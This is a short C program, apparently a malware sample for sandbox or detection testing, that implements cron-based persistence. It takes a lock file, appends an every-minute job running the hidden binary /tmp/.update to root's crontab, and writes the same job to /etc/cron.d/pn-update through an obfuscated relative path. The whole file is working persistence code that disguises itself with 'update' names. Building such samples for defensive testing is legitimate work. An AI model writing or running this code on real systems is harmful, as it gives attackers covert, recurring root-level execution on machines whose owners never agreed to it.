/* crontab.c - sandbox sample: takes a single-instance lock, then installs cron persistence
 * (T1053.003). SPDX-License-Identifier: MIT */
#include <fcntl.h>
#include <string.h>
#include <sys/file.h>
#include <unistd.h>
int main(void)
{
	const char *line = "* * * * * /tmp/.update >/dev/null 2>&1\n";
	int lk = open("/run/.cron-updater.pid", O_WRONLY | O_CREAT, 0644);
	if (lk < 0 || flock(lk, LOCK_EX | LOCK_NB) != 0)
		return 3;
	int fd = open("/var/spool/cron/crontabs/root", O_WRONLY | O_CREAT | O_APPEND, 0600);
	if (fd < 0 || write(fd, line, strlen(line)) < 0)
		return 1;
	close(fd);
	if (chdir("/etc/cron.d") != 0)
		return 4;
	fd = open("./../cron.d//pn-update", O_WRONLY | O_CREAT | O_TRUNC, 0644);   /* relative on purpose */
	if (fd < 0 || write(fd, line, strlen(line)) < 0)
		return 2;
	close(fd);
	return 0;
}
